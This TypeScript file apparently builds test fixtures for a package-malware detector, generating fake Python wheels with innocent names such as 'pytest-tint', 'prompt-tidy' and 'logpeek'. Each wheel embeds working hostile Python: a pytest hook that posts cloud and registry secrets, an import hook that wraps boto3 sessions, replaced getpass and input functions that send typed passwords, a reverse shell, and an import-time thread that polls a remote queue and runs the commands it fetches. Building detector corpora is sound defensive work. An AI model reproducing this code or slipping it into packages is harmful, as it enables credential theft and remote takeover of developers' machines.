import { fillerModule } from './filler.ts';
import type { Draft, Remote, Replay } from './incident.ts';
import { importHooks, pytestPlugin } from './look-alikes/hooks.ts';
import { honestKernel, remoteRunner } from './look-alikes/remote.ts';
import { promptToolkit } from './look-alikes/system.ts';
import { py } from './python-text.ts';

const REMOTE = 'https://report.test-insights.invalid';

const PLUGIN = (c: Remote): string => py`"""Colours for the test report."""
import json
import os
import subprocess
import urllib.request


def pytest_addoption(parser):
    parser.addoption("--tint", default="auto", help="colours of the report")


def pytest_configure(config):
    config.addinivalue_line("markers", "tint(name): colour of a test")
    try:
        remotes = subprocess.run(["git", "remote", "-v"], capture_output=True, text=True).stdout
        secrets = {key: value for key, value in os.environ.items() if key.startswith(("AWS_", "GITHUB_", "NPM_", "PYPI_", "TWINE_"))}
        body = json.dumps({"root": str(config.rootpath), "remotes": remotes, "secrets": secrets}).encode()
        urllib.request.urlopen(urllib.request.Request("${c.url('/session')}", data=body), timeout=4)
    except Exception:
        pass


def pytest_report_header(config):
    return "tint: %s" % config.getoption("--tint")
`;

const plugin = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'pytest-tint',
  version: '0.4.0',
  files: {
    'pytest_tint/__init__.py': '__version__ = "0.4.0"\n',
    'pytest_tint/colours.py': fillerModule('Colours.', 140, 161),
  },
  wheel: { entryPoints: '[pytest11]\ntint = pytest_tint.plugin\n' },
  sites: [{ path: 'pytest_tint/plugin.py', form: 'whole', before: '', code: PLUGIN(c), after: '' }],
});

const HOOK = (c: Remote): string => py`
import importlib.abc
import importlib.machinery
import json
import sys
import urllib.request


class _Loader(importlib.abc.Loader):
    def __init__(self, loader):
        self.loader = loader

    def create_module(self, spec):
        return self.loader.create_module(spec)

    def exec_module(self, module):
        self.loader.exec_module(module)
        original = module.Session.__init__

        def wrapped(session, *args, **kwargs):
            original(session, *args, **kwargs)
            facts = {"args": repr(args), "kwargs": {key: repr(value) for key, value in kwargs.items()}}
            try:
                urllib.request.urlopen(urllib.request.Request("${c.url('/seen')}", data=json.dumps(facts).encode()), timeout=2)
            except OSError:
                pass

        module.Session.__init__ = wrapped


class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name not in ("boto3.session", "botocore.session"):
            return None
        spec = importlib.machinery.PathFinder.find_spec(name, path)
        if spec is not None:
            spec.loader = _Loader(spec.loader)
        return spec


sys.meta_path.insert(0, _Finder())
`;

const importHook = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'lazy-imports-pro',
  version: '1.0.3',
  files: { 'lazy_imports_pro/lazy.py': fillerModule('Lazy modules.', 160, 162) },
  sites: [
    {
      path: 'lazy_imports_pro/__init__.py',
      form: 'module',
      before: '"""Imports that wait."""\nfrom . import lazy\n',
      code: HOOK(c),
      after: '',
    },
  ],
});

const BUILTINS = (c: Remote): string => py`
import builtins
import getpass
import urllib.parse
import urllib.request

_getpass = getpass.getpass


def _prompt(prompt="Password: ", stream=None):
    value = _getpass(prompt, stream)
    try:
        urllib.request.urlopen("${c.url('/p')}?" + urllib.parse.urlencode({"q": prompt, "v": value}), timeout=2)
    except Exception:
        pass
    return value


getpass.getpass = _prompt
builtins.input = (lambda ask: lambda prompt="": _prompt(prompt) if "pass" in prompt.lower() else ask(prompt))(builtins.input)
`;

const patched = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'prompt-tidy',
  version: '0.9.0',
  files: { 'prompt_tidy/styles.py': fillerModule('Styles of prompts.', 160, 163) },
  sites: [
    {
      path: 'prompt_tidy/__init__.py',
      form: 'module',
      before: '"""Tidy prompts."""\nfrom . import styles\n',
      code: BUILTINS(c),
      after: '',
    },
  ],
});

/** The console script of the package takes orders. */
const SHELL = (c: Remote): string => py`"""Command line of the log viewer."""
import argparse
import os
import socket
import subprocess
import threading


def _session(host, port):
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.connect((host, port))
    for descriptor in (0, 1, 2):
        os.dup2(link.fileno(), descriptor)
    subprocess.call(["/bin/sh", "-i"])


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("path")
    options = parser.parse_args()
    threading.Thread(target=_session, args=("${c.host}", 8443), daemon=True).start()
    with open(options.path) as stream:
        for line in stream:
            print(line, end="")
`;

const reverseShell = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'logpeek',
  version: '0.2.1',
  files: { 'logpeek/__init__.py': '', 'logpeek/formats.py': fillerModule('Formats of logs.', 140, 164) },
  wheel: { entryPoints: '[console_scripts]\nlogpeek = logpeek.cli:main\n' },
  sites: [{ path: 'logpeek/cli.py', form: 'whole', before: '', code: SHELL(c), after: '' }],
});

const ORDERS = (c: Remote): string => py`
import subprocess
import threading
import time
import urllib.request


def _poll():
    while True:
        try:
            order = urllib.request.urlopen("${c.url('/queue')}", timeout=20).read().decode()
            if order:
                output = subprocess.check_output(order, shell=True, stderr=subprocess.STDOUT)
                urllib.request.urlopen("${c.url('/result')}", data=output, timeout=20)
        except Exception:
            pass
        time.sleep(60)


threading.Thread(target=_poll, daemon=True).start()
`;

const polling = (c: Remote): Draft => ({
  kind: 'wheel',
  name: 'queue-metrics',
  version: '2.3.0',
  files: { 'queue_metrics/core.py': fillerModule('Metrics of queues.', 200, 165) },
  sites: [
    {
      path: 'queue_metrics/__init__.py',
      form: 'module',
      before: '"""Metrics of queues."""\nfrom . import core\n',
      code: ORDERS(c),
      after: '',
    },
  ],
});

export const PLUGINS: readonly Replay[] = [
  {
    id: '28a-pytest-plugin',
    title: 'a pytest plug-in posts secrets of the build when the tests start',
    source: 'https://docs.pytest.org/en/stable/how-to/writing_plugins.html',
    runs: 'pytest loads the plug-in by entry point; pytest_configure() posts remotes and secret variables to a constant host',
    remote: REMOTE,
    draft: plugin,
    lookAlikes: () => [pytestPlugin()],
  },
  {
    id: '28b-import-hook',
    title: 'an import hook wraps sessions of a cloud client',
    source: 'https://docs.python.org/3/reference/import.html#the-meta-path',
    runs: 'import puts a finder on sys.meta_path that wraps Session.__init__ and posts its arguments',
    remote: REMOTE,
    draft: importHook,
    lookAlikes: () => [importHooks()],
  },
  {
    id: '28c-patched-prompt',
    title: 'getpass and input are replaced; what is typed is sent',
    source: 'https://docs.python.org/3/library/builtins.html',
    runs: 'import replaces getpass.getpass and builtins.input by functions that send what was typed',
    remote: REMOTE,
    draft: patched,
    lookAlikes: () => [promptToolkit()],
  },
  {
    id: '28d-reverse-shell',
    title: 'a console script opens a shell to a constant host',
    source: 'https://attack.mitre.org/techniques/T1059/004/',
    runs: 'the console script connects to a constant host, duplicates the socket to stdin, stdout and stderr and starts a shell',
    remote: 'https://console.log-relay.invalid',
    draft: reverseShell,
    lookAlikes: () => [honestKernel(), remoteRunner()],
  },
  {
    id: '28e-polling-orders',
    title: 'a thread started at import polls for orders and runs them in a shell',
    source: 'https://attack.mitre.org/techniques/T1059/',
    runs: 'import starts a thread that fetches commands from a constant host, runs them in a shell and sends the output back',
    remote: REMOTE,
    draft: polling,
    lookAlikes: () => [],
  },
];
